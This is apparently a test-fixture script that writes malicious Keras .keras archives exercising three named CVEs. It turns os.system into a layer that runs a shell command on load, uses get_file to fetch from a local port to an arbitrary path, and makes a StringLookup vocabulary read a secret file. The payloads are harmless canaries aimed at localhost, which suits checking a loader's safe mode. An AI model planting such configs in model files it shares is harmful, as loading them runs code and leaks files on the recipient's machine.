"""Write Keras files whose description of the model does what a loader with its safe mode on once did. Standard library only."""

from __future__ import annotations

import json
import zipfile
from pathlib import Path
from typing import Any

METADATA = {"keras_version": "3.9.0", "date_saved": "2025-01-01@00:00:00"}


def layer(kind: str, name: str, module: str = "keras.layers", **config: Any) -> dict[str, Any]:
    return {"module": module, "class_name": kind, "config": {"name": name, **config}, "registered_name": None}


def write(path: Path, *layers: dict[str, Any]) -> Path:
    entry = layer("InputLayer", "input", batch_shape=[None, 4], dtype="float32")
    config = {"module": "keras", "class_name": "Sequential", "config": {"name": "net", "layers": [entry, *layers]}, "registered_name": None}
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("metadata.json", json.dumps(METADATA))
        archive.writestr("config.json", json.dumps(config))
        archive.writestr("model.weights.h5", b"")
    return path


def write_all(folder: Path, canary: Path, port: int, secret: Path) -> None:
    # CVE-2025-1550: any function of any module as a layer.
    write(folder / "run.keras", {"module": "os", "class_name": "system", "config": f"touch {canary}", "registered_name": None})
    # CVE-2025-8747: Keras' own function that fetches a file to anywhere.
    fetch = {"fname": str(canary), "origin": f"http://127.0.0.1:{port}/x"}
    write(folder / "fetch.keras", {"module": "keras.utils", "class_name": "get_file", "config": fetch, "registered_name": None})
    # CVE-2025-12058: a vocabulary that is a path, or an address, is read while the model is loaded.
    write(folder / "lookup.keras", layer("StringLookup", "words", vocabulary=str(secret)))
